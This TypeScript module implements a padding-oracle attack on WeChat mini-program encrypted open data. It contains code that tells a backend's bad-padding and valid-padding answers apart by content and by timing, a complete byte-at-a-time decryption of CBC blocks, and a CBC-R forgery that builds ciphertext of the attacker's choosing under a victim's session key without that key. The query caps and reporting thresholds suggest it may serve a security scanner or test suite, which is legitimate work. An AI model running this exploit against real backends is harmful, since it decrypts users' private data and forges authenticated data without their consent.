// Padding oracles, from the attacker's side: telling a backend's answers apart (by content and by time), and the
// CBC-R forgery that turns a padding oracle into open data of one's choosing. WeChat's open data is AES-128-CBC with
// PKCS#7 and no MAC (https://developers.weixin.qq.com/miniprogram/dev/framework/open-ability/signature.html), so a
// backend that answers bad padding differently from valid padding (CWE-209, CWE-203) lets anyone with a token decrypt
// the user's encrypted data and forge new data under the user's session_key without knowing it (Rizzo & Duong,
// "Practical Padding Oracle Attacks", 2010: CBC-R).
import { randomBytes } from 'node:crypto';

// ------------------------------------------------------------------ answers

export interface AnswerLike {
  status: number;
  text: string;
  /** Envelope fields when the answer had them. */
  code?: number;
  error?: string;
}

/**
 * The body with what legitimately differs per request masked: UUIDs, ISO timestamps, epoch times and long hex or
 * base64 runs (request ids, trace ids). Words, exception texts and short numbers stay: those are the differences an
 * oracle is made of ("bad decrypt" vs "Unexpected token").
 */
export function normaliseText(text: string): string {
  return text
    .replace(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/gi, '<uuid>')
    .replace(/\d{4}-\d{2}-\d{2}[T ]\d{2}:\d{2}:\d{2}(?:\.\d+)?(?:Z|[+-]\d{2}:?\d{2})?/g, '<time>')
    .replace(/\b\d{10,13}\b/g, '<epoch>')
    .replace(/\b[0-9a-f]{16,}\b/gi, '<hex>')
    .replace(/[A-Za-z0-9+/_-]{24,}={0,2}/g, (m) => (/\d/.test(m) && /[A-Za-z]/.test(m) ? '<id>' : m))
    .replace(/\s+/g, ' ')
    .trim();
}

/** What an answer is, coarsely (status, envelope code and error name) or finely (status and the normalised body). */
export type Level = 'coarse' | 'fine';

export function signature(a: AnswerLike, level: Level): string {
  return level === 'coarse' ? `${a.status} ${a.code ?? '-'} ${a.error ?? '-'}` : `${a.status} ${normaliseText(a.text)}`;
}

/** The most frequent signature and how often it occurs. */
function mode(sigs: readonly string[]): { sig: string; count: number } | undefined {
  const counts = new Map<string, number>();
  for (const s of sigs) counts.set(s, (counts.get(s) ?? 0) + 1);
  let best: { sig: string; count: number } | undefined;
  for (const [sig, count] of counts) if (!best || count > best.count) best = { sig, count };
  return best;
}

export interface Telltale {
  level: Level;
  /** Which side's typical answer never occurs on the other side. */
  side: 'x' | 'y';
  sig: string;
}

/**
 * Whether two classes of requests are told apart by their answers: one class's typical answer (its most frequent one,
 * given at least twice and to at least half of its requests) never occurs in the other class. Requiring a typical
 * answer keeps a per-request value the normalisation missed (every answer unique) from looking like a difference;
 * looking only for one class's typical answer in the other keeps answers that vary within a class (an exception text
 * quoting the garbage it choked on) from hiding a real difference. Coarse first (status, code, error), then fine.
 */
export function telltale(x: readonly AnswerLike[], y: readonly AnswerLike[]): Telltale | undefined {
  for (const level of ['coarse', 'fine'] as const) {
    const xs = x.map((a) => signature(a, level));
    const ys = y.map((a) => signature(a, level));
    for (const [side, mine, theirs] of [['x', xs, ys], ['y', ys, xs]] as const) {
      const m = mode(mine);
      if (m && m.count >= Math.max(2, Math.ceil(mine.length / 2)) && !theirs.includes(m.sig)) return { level, side, sig: m.sig };
    }
  }
  return undefined;
}

// ------------------------------------------------------------------ timing

export const median = (xs: readonly number[]): number => {
  const s = [...xs].sort((a, b) => a - b);
  const n = s.length;
  if (n === 0) return NaN;
  return n % 2 ? s[(n - 1) / 2]! : (s[n / 2 - 1]! + s[n / 2]!) / 2;
};

/** erfc by Abramowitz & Stegun 7.1.26 (error below 1.5e-7): enough for a p-value threshold. */
function erfc(x: number): number {
  const z = Math.abs(x);
  const t = 1 / (1 + 0.3275911 * z);
  const y = t * (0.254829592 + t * (-0.284496736 + t * (1.421413741 + t * (-1.453152027 + t * 1.061405429)))) * Math.exp(-z * z);
  return x >= 0 ? y : 2 - y;
}

/**
 * Mann-Whitney U test, two-sided, by the normal approximation with the tie correction (fine from about 8 samples a
 * side). Robust to the outliers localhost timing is full of (a GC pause, a scheduler hiccup): it compares ranks.
 */
export function mannWhitney(x: readonly number[], y: readonly number[]): { u: number; z: number; p: number } {
  const n1 = x.length;
  const n2 = y.length;
  const all = [...x.map((v) => ({ v, g: 0 })), ...y.map((v) => ({ v, g: 1 }))].sort((a, b) => a.v - b.v);
  const ranks = new Array<number>(all.length);
  let tieTerm = 0;
  for (let i = 0; i < all.length; ) {
    let j = i;
    while (j + 1 < all.length && all[j + 1]!.v === all[i]!.v) j++;
    const r = (i + j + 2) / 2;
    for (let k = i; k <= j; k++) ranks[k] = r;
    const t = j - i + 1;
    tieTerm += t * t * t - t;
    i = j + 1;
  }
  let r1 = 0;
  all.forEach((a, i) => {
    if (a.g === 0) r1 += ranks[i]!;
  });
  const u = r1 - (n1 * (n1 + 1)) / 2;
  const n = n1 + n2;
  const mu = (n1 * n2) / 2;
  const sigma = Math.sqrt(((n1 * n2) / 12) * (n + 1 - tieTerm / (n * (n - 1))));
  if (sigma === 0) return { u, z: 0, p: 1 };
  const z = (u - mu) / sigma;
  return { u, z, p: Math.min(1, erfc(Math.abs(z) / Math.SQRT2)) };
}

// Timing thresholds. Localhost HTTP answers vary by about 0.1-1 ms from one request to the next, and a real timing
// oracle worth reporting over a network (a slow path that only valid padding takes: a parse, a lookup) costs
// milliseconds. So a difference counts only when it is both large (medians 2 ms and 25 % apart) and significant
// (Mann-Whitney p < 0.001, which 12 samples a side can reach only when nearly every sample of one class is slower).
export const TIMING = { minDeltaMs: 2, minRelative: 0.25, maxP: 0.001, minSamples: 8 } as const;

export interface TimingVerdict {
  leaks: boolean;
  medianX: number;
  medianY: number;
  p: number;
  n: [number, number];
}

export function compareTiming(x: readonly number[], y: readonly number[]): TimingVerdict | undefined {
  if (x.length < TIMING.minSamples || y.length < TIMING.minSamples) return undefined;
  const mx = median(x);
  const my = median(y);
  const { p } = mannWhitney(x, y);
  const delta = Math.abs(mx - my);
  const leaks = p < TIMING.maxP && delta >= TIMING.minDeltaMs && delta >= TIMING.minRelative * Math.min(mx, my);
  return { leaks, medianX: mx, medianY: my, p, n: [x.length, y.length] };
}

// ------------------------------------------------------------------ the forgery

/** What one oracle query said: the padding held or not, or something else (token revoked, rate limited): stop. */
export type OracleAnswer = { kind: 'bad-padding' } | { kind: 'valid-padding' } | { kind: 'other'; why: string };

/** Decrypts `ciphertext` under the victim's key with `iv` and says whether the PKCS#7 padding held. */
export type PaddingOracle = (iv: Buffer, ciphertext: Buffer) => Promise<OracleAnswer>;

export interface ForgeOptions {
  /** Stop after this many oracle queries. */
  queryCap: number;
  /** Stop at this performance.now() time (ms). */
  deadline: number;
  /** Queries in flight at once (guesses for one byte, sent together). */
  parallel?: number;
  random?: (n: number) => Buffer;
}

export type ForgeResult =
  | { ok: true; iv: Buffer; ciphertext: Buffer; queries: number }
  | { ok: false; queries: number; why: string };

const BLOCK = 16;

export function pkcs7(data: Buffer): Buffer {
  const pad = BLOCK - (data.length % BLOCK);
  return Buffer.concat([data, Buffer.alloc(pad, pad)]);
}

class Stop extends Error {}

function xor(a: Buffer, b: Buffer): Buffer {
  const out = Buffer.alloc(a.length);
  for (let i = 0; i < a.length; i++) out[i] = a[i]! ^ b[i]!;
  return out;
}

function querier(oracle: PaddingOracle, o: ForgeOptions) {
  let queries = 0;
  const parallel = Math.max(1, o.parallel ?? 1);
  /** Asks the oracle about each (iv, block) pair, `parallel` at a time, within the caps; true = padding held. */
  async function ask(pairs: readonly (readonly [Buffer, Buffer])[]): Promise<boolean[]> {
    if (queries >= o.queryCap) throw new Stop('the query cap was reached');
    if (performance.now() >= o.deadline) throw new Stop('the time cap was reached');
    const take = pairs.slice(0, Math.min(pairs.length, o.queryCap - queries));
    queries += take.length;
    const answers = await Promise.all(take.map(([iv, c]) => oracle(iv, c)));
    const other = answers.find((a) => a.kind === 'other');
    if (other && other.kind === 'other') throw new Stop(other.why);
    const out = answers.map((a) => a.kind === 'valid-padding');
    // Cut short by the cap: whatever was not asked counts as not valid; the next ask stops.
    while (out.length < pairs.length) out.push(false);
    return out;
  }
  return { ask, parallel, count: () => queries, capped: () => queries >= o.queryCap, capMessage: 'the query cap was reached' };
}

/**
 * D_K(block), the block cipher's decryption of one block, from the oracle alone: the classic byte-at-a-time attack
 * with the block sent alone behind a chosen iv, last byte first. For the last byte a second query with the
 * next-to-last iv byte flipped tells `..01` (real) from `..02 02` (a false positive) padding.
 */
async function intermediate(block: Buffer, q: ReturnType<typeof querier>, random: (n: number) => Buffer): Promise<Buffer> {
  const inter = Buffer.alloc(BLOCK);
  const prefix = random(BLOCK);
  for (let j = BLOCK - 1; j >= 0; j--) {
    const pad = BLOCK - j;
    for (let k = j + 1; k < BLOCK; k++) prefix[k] = inter[k]! ^ pad;
    let found = -1;
    for (let start = 0; start < 256 && found < 0; start += q.parallel) {
      const guesses: number[] = [];
      for (let g = start; g < Math.min(256, start + q.parallel); g++) guesses.push(g);
      const valid = await q.ask(
        guesses.map((g) => {
          const iv = Buffer.from(prefix);
          iv[j] = g;
          return [iv, block] as const;
        }),
      );
      for (let i = 0; i < guesses.length && found < 0; i++) {
        if (!valid[i]) continue;
        const g = guesses[i]!;
        if (j === BLOCK - 1) {
          const iv = Buffer.from(prefix);
          iv[j] = g;
          iv[j - 1] = iv[j - 1]! ^ 0xff;
          const [still] = await q.ask([[iv, block]]);
          if (!still) continue;
        }
        found = g;
      }
    }
    if (found < 0 && q.capped()) throw new Stop(q.capMessage);
    if (found < 0) throw new Stop(`no guess gave valid padding at byte ${j} of a block: the answers are not a consistent padding oracle`);
    inter[j] = found ^ pad;
  }
  return inter;
}

/**
 * CBC-R: a ciphertext and iv that decrypt under the victim's key to `plaintext` (PKCS#7-padded here), built from the
 * oracle alone. The last ciphertext block is random; each block's decryption D_K(C_i) is found by the oracle, and the
 * block before it is chosen as D_K(C_i) XOR P_i; the iv is the last such choice. About 128 queries per byte.
 */
export async function forgeCbcR(plaintext: Buffer, oracle: PaddingOracle, o: ForgeOptions): Promise<ForgeResult> {
  const random = o.random ?? randomBytes;
  const q = querier(oracle, o);
  const p = pkcs7(plaintext);
  const n = p.length / BLOCK;
  const blocks: Buffer[] = new Array(n + 1);
  blocks[n] = random(BLOCK);
  try {
    for (let i = n; i >= 1; i--) {
      const inter = await intermediate(blocks[i]!, q, random);
      blocks[i - 1] = xor(inter, p.subarray((i - 1) * BLOCK, i * BLOCK));
    }
  } catch (err) {
    if (err instanceof Stop) return { ok: false, queries: q.count(), why: err.message };
    throw err;
  }
  return { ok: true, iv: blocks[0]!, ciphertext: Buffer.concat(blocks.slice(1)), queries: q.count() };
}

/** D_K(block) alone (exported for tests). */
export async function decryptBlockByOracle(block: Buffer, oracle: PaddingOracle, o: ForgeOptions): Promise<Buffer> {
  return intermediate(block, querier(oracle, o), o.random ?? randomBytes);
}
